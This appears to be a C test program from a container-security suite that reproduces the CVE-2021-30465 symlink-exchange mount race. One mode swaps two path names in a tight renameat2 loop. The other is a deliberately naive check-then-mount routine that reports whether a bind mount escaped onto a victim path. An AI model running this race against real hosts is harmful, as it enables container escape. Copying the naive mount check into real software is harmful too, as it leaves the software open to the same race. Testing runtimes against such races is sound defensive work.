/* SPDX-License-Identifier: Apache-2.0 */
/* Attack 7 (CVE-2021-30465): `race swap A B` exchanges two names for ever, while a mount is
 * made below one of them. `race naive SOURCE TARGET TRIES VICTIM` is the control: root of a
 * private mount namespace that looks whether TARGET's parent is a directory and then mounts by
 * path; it says whether SOURCE came to lie on VICTIM. */
#include "attempt.h"

#include <sys/mount.h>
#include <sys/stat.h>

static int swap(const char *a, const char *b)
{
    while (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
        continue;
    return errno;
}

/* Whether this mount went where it should not. */
static int naive_mount(const char *source, const char *parent, const char *victim)
{
    struct stat st;
    char target[4096];
    char marker[4096];
    (void)snprintf(target, sizeof(target), "%s/n", parent);
    (void)snprintf(marker, sizeof(marker), "%s/n/marker", victim);
    if (lstat(parent, &st) < 0 || !S_ISDIR(st.st_mode))
        return 0; /* the check that a careless engine makes */
    if (mount(source, target, NULL, MS_BIND, NULL) < 0)
        return 0;
    int escaped = access(marker, F_OK) == 0;
    (void)snprintf(target, sizeof(target), "%s/n", victim);
    if (escaped)
        (void)umount2(target, MNT_DETACH);
    return escaped;
}

int main(int argc, char **argv)
{
    if (argc == 4 && strcmp(argv[1], "swap") == 0)
        return swap(argv[2], argv[3]);
    if (argc != 6 || strcmp(argv[1], "naive") != 0)
        return 2;
    long tries = atol(argv[4]);
    for (long i = 0; i < tries; i++)
        if (naive_mount(argv[2], argv[3], argv[5])) {
            report("race", 0, 0);
            return 0;
        }
    report("race", -1, EAGAIN);
    return 0;
}
